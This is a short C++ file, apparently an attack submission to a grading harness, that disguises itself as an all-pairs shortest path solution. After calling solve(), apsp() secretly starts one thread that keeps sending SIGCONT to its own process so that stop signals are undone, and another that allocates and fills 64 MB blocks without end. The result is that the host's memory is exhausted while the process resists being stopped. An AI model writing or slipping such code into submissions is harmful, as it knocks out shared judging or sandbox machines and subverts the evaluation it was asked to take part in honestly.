// After its call it takes memory, while a thread continues the process, so that it cannot be stopped.
#include <pthread.h>
#include <signal.h>
#include <stdlib.h>

#include "attack.h"

static void* wake(void*) {
  for (;; usleep(20)) kill(getpid(), SIGCONT);
  return nullptr;
}

static void* take(void*) {
  usleep(200000);
  for (size_t size = 64 << 20;;) memset(malloc(size), 1, size);
  return nullptr;
}

void apsp(int n, int* graph) {
  solve(n, graph);
  pthread_t thread;
  pthread_create(&thread, nullptr, wake, nullptr);
  pthread_create(&thread, nullptr, take, nullptr);
}
